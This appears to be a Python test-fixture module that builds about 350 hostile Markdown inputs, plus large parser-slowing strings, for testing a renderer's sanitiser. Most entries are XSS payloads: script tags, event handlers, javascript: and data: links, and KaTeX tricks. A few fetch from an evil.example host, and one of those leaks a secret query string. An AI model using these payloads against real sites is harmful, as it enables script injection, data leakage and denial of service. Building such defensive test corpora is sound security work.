# SPDX-License-Identifier: Apache-2.0
"""Markdown that wants to become markup, made from what is known to have worked somewhere: scripts, event attributes,
javascript: and data: addresses in every place that takes an address, entities, odd white space, broken and nested
syntax, formulas that ask for more than formulas."""

TAGS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<math href=javascript:alert(1)>x</math>",
        "<form action=javascript:alert(1)><input type=submit></form>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<link rel=stylesheet href=//evil>", "<style>@import '//evil'</style>", "<base href=//evil/>", "<meta http-equiv=refresh content=0;url=//evil>",
        "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<textarea></textarea><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
        "<marquee onstart=alert(1)>", "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<!--><script>alert(1)</script-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml <script>alert(1)</script>?>",
        "<div style=background:url(javascript:alert(1))>", "<x/onclick=alert(1)>", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href=data:image/svg+xml,x>", "<img src=x:x onerror\n=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<button popovertarget=x onbeforetoggle=alert(1)>"]
ADDRESSES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
             "javascript&colon;alert(1)", "  javascript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
             "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd",
             "blob:null/x", "view-source:javascript:alert(1)", "filesystem:http://x", "about:blank", "//evil.example/x", "/sobre/v1/session",
             "javascript:/*http://x*/alert(1)", "http:javascript:alert(1)", "javascript://%0aalert(1)", "jav%61script:alert(1)", "feed:javascript:alert(1)"]
PLACES = ["[x](%s)", "[x](<%s>)", "![x](%s)", "[x][1]\n\n[1]: %s", "<%s>", "%s", "[![x](%s)](%s)", "[x](%s \"onclick=alert(1)\")"]
MATH = [r"$\href{javascript:alert(1)}{x}$", r"$\url{javascript:alert(1)}$", r"$\includegraphics{http://evil.example/x.png}$", r"$\htmlClass{x}{y}$",
        r"$\htmlId{message}{y}$", r"$\htmlStyle{background:url(//evil)}{y}$", r"$\htmlData{a=b}{y}$", r"$$\fcolorbox{red}{blue}{x}$$",
        r"$$\pmb{x}$$", r"$\def\a{\a\a}\a$", r"$\text{<script>alert(1)</script>}$", r"$\rule{1000000em}{1000000em}$", r"$\color{url(javascript:alert(1))}x$",
        r"\(\unknown{<img src=x onerror=alert(1)>}\)", r"\[\begin{matrix} <script> \end{matrix}\]", r"$" + "{" * 300 + "$", r"$\kern{99999em}x$"]
CODE = ["```<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```", "```html\n<script>alert(1)</script>\n```",
        "```html onload=alert(1)\n<b>\n```", "`<script>alert(1)</script>`", "~~~\"><img src=x onerror=alert(1)>\nx\n~~~", "    <script>alert(1)</script>",
        "```xml\n<!--<span class=\"x\" onclick=\"alert(1)\">-->\n```", "```js\n\"</span><script>alert(1)</script>\"\n```", "```\n</code></pre><script>alert(1)</script>\n```"]
MIXED = ["| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |", "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
         "1. <svg onload=alert(1)>\n   - ![a](javascript:alert(1))", "# <script>alert(1)</script>", "***<b onclick=alert(1)>x</b>***", "[<img src=x onerror=alert(1)>](http://x)",
         "[x]: <javascript:alert(1)>\n\n[x]", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "<a&#32;href=javascript:alert(1)>",
         "[a](http://x\" onmouseover=\"alert(1))", "[a](http://x' onmouseover='alert(1))", "http://x/\"onmouseover=alert(1)", "http://x/<script>alert(1)</script>",
         "mailto:a@b?subject=<script>alert(1)</script>", "\\<script>alert(1)</script>", "<http://x onmouseover=alert(1)>", "![](http://evil.example/?secret=words)",
         "[x](http://a@b@c\\@d)", "\u202ehttp://x\u202c", "\0<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "\ufeff<script>alert(1)</script>"]


def payloads():
    """About 350 of them."""
    out = list(TAGS)
    out += ["text %s more" % t for t in TAGS[:20]] + ["\n\n%s\n\nmore" % t for t in TAGS[20:]]
    out += [p.replace("%s", a) for a in ADDRESSES for p in PLACES]
    return out + MATH + CODE + MIXED


def shapes():
    """Texts whose pieces could be cut in the wrong place."""
    return ["# One\n\ntext *a*\n**b**\n\n- x\n- y\n\n  z\n\n1. a\n2. b\n\n> q\n> r\n\nend", "a\n===\n\nb\n---\n\n```\ncode\n\nmore\n```\nafter",
            "```py\nx = 1\n```\n\n```\ny\n```", "- a\n\n  ```js\n  let a;\n  ```\n\n- b", "| a | b |\n|---|---|\n| 1 | 2 |\n\nx", "a  \nb\\\nc\r\nd\r\n\r\ne",
            "[a]\n\ntext [b]\n\n[a]: http://a.example\n[b]: http://b.example", "$$\na\n$$\n\nb $c$ d", "    indented\n\n    more\n\nx", "~~~\n```\n~~~\n", "````\n```\n````\nz",
            "no end ```\nx", "```\nnever closed\nat all", "* * *\n\na\n\n***", "1) a\n\n   b\n\n2) c", "\n\n\nx\n\n\n\ny\n"]


def big(n):
    """A message of n bytes that has a bit of everything."""
    piece = "# <script>alert(1)</script>\n\n" + "[x](javascript:alert(1)) **b** `c` $x$ " * 20 + "\n\n```js\n" + "let a = 1;\n" * 20 + "```\n\n"
    return (piece * (n // len(piece) + 1))[:n]


def slow():
    """(name, text): what makes Markdown parsers take squares of their time."""
    n = 140000
    return [("brackets", "[" * n), ("brackets closed", "[" * (n // 2) + "]" * (n // 2)), ("stars", "*a " * (n // 3)), ("stars 2", "**" * (n // 2)),
            ("ticks", "".join("`" * (i % 50 + 1) + " " for i in range(n // 26))), ("quotes", ">" * n), ("lists", "- " * (n // 2)), ("links", "[a](" * (n // 4)),
            ("images", "![a](" * (n // 5)), ("angles", "<" * n), ("dollars", "$" * n), ("dollars 2", "$a " * (n // 3)), ("addresses", "http://" * (n // 7)),
            ("ats", "a@" * (n // 2)), ("backslashes", "\\(" * (n // 2)), ("tables", "|" * n), ("table", "a|b\n-|-\n" + "a|b\n" * (n // 4)),
            ("definitions", "[a]: b\n" * (n // 7)), ("entities", "&" * n), ("entities 2", "&#x" * (n // 3)), ("underscores", "_a_" * (n // 3)),
            ("paragraphs", "**a** [b](http://c) `d` $e$\n\n" * (n // 30)), ("nested", "".join("> " * (i % 90) + "a\n" for i in range(n // 92))),
            ("code", "```js\n" + "/*" * (n // 2)), ("breaks", "a\n" * (n // 2)), ("fences", "```\n" * (n // 4)), ("displays", "$$\n" * (n // 3))]
